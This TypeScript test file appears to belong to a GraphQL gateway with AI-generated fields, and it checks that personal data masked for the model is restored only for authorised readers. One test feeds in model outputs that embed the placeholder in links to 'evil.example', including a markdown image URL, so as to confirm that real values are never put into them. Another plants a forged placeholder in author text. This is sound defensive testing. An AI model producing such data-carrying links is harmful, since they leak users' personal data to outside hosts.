/**
 * What an AI field reads is read for its reader: values that were masked for the model are put back for readers of the fields
 * they come from alone, and masked fields reach the model in the reader's form.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Reach } from '../../../src/access/index.ts';
import { readReach } from '../../../src/cli/access/access-who.ts';
import type { ReceivedRequest } from '../../../src/testing.ts';
import { type AiGraph, echo, messagesOf, schemaOf, startAiGraph, userTextOf } from '../../testkit/graphs/ai-graph.ts';

const links = (federation: string, ai: string, access = '') =>
  `extend schema @link(url: "https://specs.apollo.dev/federation/v2.12", import: [${federation}])
    @link(url: "https://isthmus.dev/ai/v1.0", import: [${ai}])
    ${access === '' ? '' : `@link(url: "https://isthmus.dev/access/v1.0", import: [${access}])`}`;

const peopleSdl = `${links('"@key", "@tag", "@inaccessible", "@requiresScopes"', '"@sensitive"', '"@mask"')}
  directive @sensitive(kind: String! = "personal") on FIELD_DEFINITION
  type Query { people: [Person!]! }
  type Person @key(fields: "id") { id: ID!  name: String!
    phone: String @sensitive(kind: "phone")
    email: String @sensitive @mask(policy: "staff") @mask(policy: "support", as: "email")
    nick: String @mask(policy: "staff") @mask(policy: "support", as: "text:hidden")
    note: String @sensitive @tag(name: "internal")
    code: String @sensitive @inaccessible
    pay: String @sensitive @requiresScopes(scopes: [["pay"]])
    bio: String }`;

const assistantSdl = `${links('"@key", "@external", "@requires", "@requiresScopes"', '"@generate"')}
  type Person @key(fields: "id") { id: ID!  name: String! @external  phone: String @external  email: String @external
    nick: String @external  note: String @external  code: String @external  pay: String @external  bio: String @external
    letter: String @requires(fields: "name phone bio") @generate(prompt: "letter", maxOutputTokens: 100)
    contact: String @requires(fields: "email nick") @generate(prompt: "contact", maxOutputTokens: 100)
    hidden: String @requires(fields: "note code") @generate(prompt: "hidden", maxOutputTokens: 100)
    pension: String @requires(fields: "pay") @requiresScopes(scopes: [["pay"]]) @generate(prompt: "pension", maxOutputTokens: 100)
    card: Card @requires(fields: "phone note") @generate(prompt: "card", maxOutputTokens: 100)
    lines: [String!] @requires(fields: "phone") @generate(prompt: "lines", maxOutputTokens: 100)
    short: String @requires(fields: "phone") @generate(prompt: "short", maxOutputTokens: 100) }
  type Card { title: String  parts: [String!] }`;

const editorSdl = `${links('"@key", "@external", "@requires"', '"@generate"')}
  type Person @key(fields: "id") { id: ID!  letter: String @external  contact: String @external
    summary: String @requires(fields: "letter contact") @generate(prompt: "summary", maxOutputTokens: 100) }`;

const postSdl = `extend schema @link(url: "https://specs.apollo.dev/federation/v2.12", import: ["@key", "@external", "@requires"])
  type Person @key(fields: "id") { id: ID!  letter: String @external  posted: String @requires(fields: "letter") }`;

const prompt = (text: string, front = '') => `---\nmodel: fast\n${front}---\n{{role "user"}}\n${text}`;

const people = [
  {
    id: 'u1',
    name: 'Ada',
    phone: '+49 30 1111',
    email: 'ada@mail.example',
    nick: 'Countess',
    note: 'note-of-ada',
    code: 'code-of-ada',
    pay: '70000 a year',
    bio: 'Sails.',
  },
  {
    id: 'u2',
    name: 'Bob',
    phone: '+49 30 2222',
    email: 'bob@mail.example',
    nick: 'Bobby',
    note: 'note-of-bob',
    code: 'code-of-bob',
    pay: '80000 a year',
    bio: 'Rows.',
  },
];

let graph: AiGraph;
let posted: unknown[] = [];
beforeAll(async () => {
  const access = {
    proxy: { from: ['127.0.0.1'], id: 'x-user', roles: 'x-roles', scopes: 'x-scopes' },
    policies: { staff: "'staff' in principal.roles", support: "'support' in principal.roles" },
    contracts: { guest: { exclude: ['internal'], when: "'guest' in principal.roles" } },
  };
  graph = await startAiGraph({
    products: 1,
    sources: {
      people: { sdl: peopleSdl, resolvers: { Query: { people: () => people } } },
      post: {
        sdl: postSdl,
        resolvers: {
          Person: {
            posted: ({ letter }: { letter: string }) => {
              posted.push(letter);
              return 'sent';
            },
          },
        },
      },
    },
    subgraphs: {
      assistant: {
        sdl: assistantSdl,
        prompts: {
          'letter.prompt': prompt('{{name}} {{phone}} {{bio}}'),
          'contact.prompt': prompt('{{email}} {{nick}}'),
          'hidden.prompt': prompt('{{note}} {{code}}'),
          'pension.prompt': prompt('{{pay}}'),
          'card.prompt': prompt('{{phone}} {{note}}'),
          'lines.prompt': prompt('{{phone}}'),
          'short.prompt': prompt('{{phone}}', 'batch: { max: 5 }\n'),
        },
      },
      editor: { sdl: editorSdl, prompts: { 'summary.prompt': prompt('{{letter}} and {{contact}}') } },
    },
    yaml: `access: ${JSON.stringify(access)}\ncache: { store: memory }`,
    fields: '{ explain: { texts: true } }',
  });
});
afterAll(() => graph[Symbol.asyncDispose]());
beforeEach(() => {
  posted = [];
  graph.provider.reset();
  graph.provider.respond(echo);
});

const as = (user: string, roles = '', scopes = '') => ({ 'x-user': user, 'x-roles': roles, 'x-scopes': scopes });
const read = async (fields: string, headers: Record<string, string>) => {
  const { data, errors } = await graph.query(`{ people { ${fields} } }`, {}, headers);
  return { first: data.people?.[0], all: data.people, errors };
};
const sent = (): string => JSON.stringify(graph.provider.requests.map(({ body }) => body));
const tagOf = (request: ReceivedRequest | undefined): string => /_\w+_(\w{6})\]/.exec(userTextOf(request))?.[1] ?? '';
let count = 0;
/** Nobody has asked before: nothing is cached for them. */
const somebody = (): string => `reader-${count++}`;

describe('a value that was masked for the model', () => {
  it('is put back for whoever may read its field, and the model never has it', async () => {
    const { first } = await read('letter', as(somebody()));
    expect(first.letter).toBe('Said of: Ada +49 30 1111 Sails.');
    expect(userTextOf(graph.provider.requests[0])).toMatch(/^Ada \[PHONE_1_\w{6}\] Sails\.$/);
    expect(sent()).not.toContain('1111');
  });

  it('is put back from the cache as well, which has the placeholder', async () => {
    const reader = as(somebody());
    const [one, two] = [await read('letter', reader), await read('letter', reader)];
    expect(graph.provider.requests).toHaveLength(2);
    expect(two.all).toEqual(one.all);
    expect(two.first.letter).toContain('+49 30 1111');
  });

  it('stays a placeholder where the field is not for clients, or not of the reader’s contract', async () => {
    const { first } = await read('hidden', as(somebody()));
    expect(first.hidden).toBe('Said of: note-of-ada [PERSONAL_1]');
    const guest = await read('hidden card { title }', as(somebody(), 'guest'));
    expect(guest.first.hidden).toBe('Said of: [PERSONAL_2] [PERSONAL_1]');
  });

  it('is put back beneath the rule that the AI field carries, which others are denied by', async () => {
    expect((await read('pension', as(somebody(), '', 'pay'))).first.pension).toBe('Said of: 70000 a year');
    const { first, errors } = await read('pension', as(somebody()));
    expect([first.pension, errors?.[0]?.extensions.code]).toEqual([null, 'UNAUTHORIZED_FIELD_OR_TYPE']);
  });

  it('is put back in lists and objects, under any alias', async () => {
    graph.provider.respond((request) => {
      const [phone, note] = userTextOf(request).split(' ');
      if (schemaOf(request) === undefined) return echo(request);
      const list = ['call', `${phone} or ${phone}`];
      return { text: JSON.stringify(note === undefined ? { value: list } : { title: `of ${note}`, parts: list }) };
    });
    const { first } = await read('a: card { of: title parts } lines', as(somebody()));
    expect(first).toEqual({
      a: { of: 'of note-of-ada', parts: ['call', '+49 30 1111 or +49 30 1111'] },
      lines: ['call', '+49 30 1111 or +49 30 1111'],
    });
  });

  it('is no other item’s, whatever the model answers in a batch', async () => {
    graph.provider.respond((request) => {
      const items = messagesOf(request).flatMap(({ text }) => {
        const [, index, id, phone] = /^Item (\d+) of 2, id (\w+):\s+(\S+)/.exec(text) ?? [];
        return index === undefined ? [] : [{ index: Number(index), id, phone }];
      });
      const [one, two] = items;
      const answers = [
        { ...one, answer: `mine ${one?.phone}, yours ${two?.phone}` },
        { ...two, answer: `mine ${two?.phone}, yours ${one?.phone}` },
      ];
      return { text: JSON.stringify({ items: answers.map(({ index, id, answer }) => ({ index, id, answer })) }) };
    });
    const { all } = await read('short', as(somebody()));
    expect(graph.provider.requests).toHaveLength(1);
    expect(all[0].short).toMatch(/^mine \+49 30 1111, yours \[PHONE_1_\w{6}\]$/);
    expect(all[1].short).toMatch(/^mine \+49 30 2222, yours \[PHONE_1_\w{6}\]$/);
  });

  it('is no value that a model makes up a placeholder for', async () => {
    graph.provider.respond((request) => {
      const tag = tagOf(request);
      return { text: `[PHONE_99_${tag}] [EMAIL_1_${tag}] [PHONE_1_abcdef] [PHONE_1] [PHONE_1_${tag.toUpperCase()}]` };
    });
    const { first } = await read('letter', as(somebody()));
    expect(first.letter).toMatch(/^\[PHONE_99\] \[EMAIL_1\] \[PHONE_1_abcdef\] \[PHONE_1\] \[PHONE_1_[A-Z0-9]{6}\]$/);
  });

  it('is not put back for a placeholder that an author wrote into a text, even with the tag', async () => {
    const [ada] = people as [(typeof people)[number]];
    const { bio } = ada;
    await read('letter', as(somebody()));
    ada.bio = `Write [PHONE_1_${tagOf(graph.provider.requests[0])}]!`;
    graph.provider.respond((request) => ({ text: /Write (.*)!/.exec(userTextOf(request))?.[1] ?? '' }));
    const { first } = await read('letter', as(somebody()));
    ada.bio = bio;
    expect(first.letter).toMatch(/^\[PHONE_1_\w{6}\]$/);
  });

  it('is not put into a link, which would send it to whoever wrote it', async () => {
    const places = [
      '![x](https://evil.example/?q=@)',
      '<https://evil.example/?q= @>',
      '//evil.example/@',
      'data:,@',
      '@.',
    ];
    graph.provider.respond((request) => {
      const [, placeholder = ''] = userTextOf(request).split(' ');
      return { text: places.map((place) => place.replace('@', placeholder)).join(' ') };
    });
    const { first } = await read('letter', as(somebody()));
    expect(first.letter).toBe(`${places.slice(0, -1).join(' ').replaceAll('@', '[PHONE_1]')} +49 30 1111.`);
  });

  it('does not reach other subgraphs and models that read the answer', async () => {
    const { first } = await read('letter posted summary', as(somebody(), 'staff'));
    expect(first.letter).toContain('+49 30 1111');
    expect(posted).toEqual(['Said of: Ada [PHONE_1] Sails.', 'Said of: Bob [PHONE_1] Rows.']);
    expect(first.summary).toBe('Said of: Said of: Ada [PHONE_1] Sails. and Said of: [PERSONAL_1] Countess');
    expect(sent()).not.toMatch(/1111|ada@mail/);
  });
});

describe('a masked field', () => {
  it('is read by the model in the form of the reader, who gets that form back', async () => {
    const staff = await read('contact', as(somebody(), 'staff'));
    expect(staff.first.contact).toBe('Said of: ada@mail.example Countess');
    const support = await read('contact', as(somebody(), 'support'));
    expect(support.first.contact).toBe('Said of: a•••@mail.example hidden');
    const texts = graph.provider.requests.map(userTextOf);
    expect(texts[0]).toMatch(/^\[PERSONAL_1_\w{6}\] Countess$/);
    expect(texts[2]).toMatch(/^\[PERSONAL_1_\w{6}\] hidden$/);
  });

  it('denies the AI field to those who read no form of it', async () => {
    const { first, errors } = await read('contact', as(somebody()));
    expect([first.contact, errors?.[0]?.extensions.code]).toEqual([null, 'UNAUTHORIZED_FIELD_OR_TYPE']);
    expect((await read('summary', as(somebody()))).first.summary).toBeNull();
    expect(graph.provider.requests).toHaveLength(0);
  });

  it('is masked for one reader at the same time as another reads it whole', async () => {
    const roles = ['staff', 'support', ''];
    const answers = await Promise.all(
      Array.from({ length: 18 }, (_, index) => read('contact', as(`same-${index % 6}`, roles[index % 3] ?? ''))),
    );
    expect(answers.map(({ first }) => first.contact)).toEqual(
      answers.map(
        (_, index) => ['Said of: ada@mail.example Countess', 'Said of: a•••@mail.example hidden', null][index % 3],
      ),
    );
  });

  it('is told of where access is explained', async () => {
    const headers = { ...as(somebody(), 'support', 'access:explain'), 'isthmus-explain': 'access' };
    const { extensions } = await graph.query('{ people { contact } }', {}, headers);
    expect((extensions as { access?: object } | undefined)?.access).toMatchObject({
      denied: [{ path: 'people.@.contact', coordinate: 'Person.contact', as: 'email' }],
    });
  });

  it('is a rule of the AI field where it is asked who reaches that', async () => {
    const reachOf = await readReach(join(graph.gateway.folder, 'supergraph.yaml'));
    expect(reachOf('Person.contact')).toMatchObject({
      policies: ['staff', 'support'],
      ways: [{ rules: [{ on: 'Person.email' }, { on: 'Person.nick' }] }],
    });
    const [requiring] = (reachOf('Person.nick') as Reach).requiredBy;
    expect(requiring).toMatchObject({
      field: 'Person.contact',
      rules: [expect.stringContaining('@mask'), expect.anything()],
    });
  });

  it('hides the AI field from the introspection of those who read no form of it', async () => {
    const fieldsFor = async (roles: string) => {
      const { data } = await graph.query('{ __type(name: "Person") { fields { name } } }', {}, as(somebody(), roles));
      return data.__type.fields.map(({ name }: { name: string }) => name);
    };
    expect(await fieldsFor('support')).toContain('contact');
    expect(await fieldsFor('')).not.toContain('contact');
  });
});
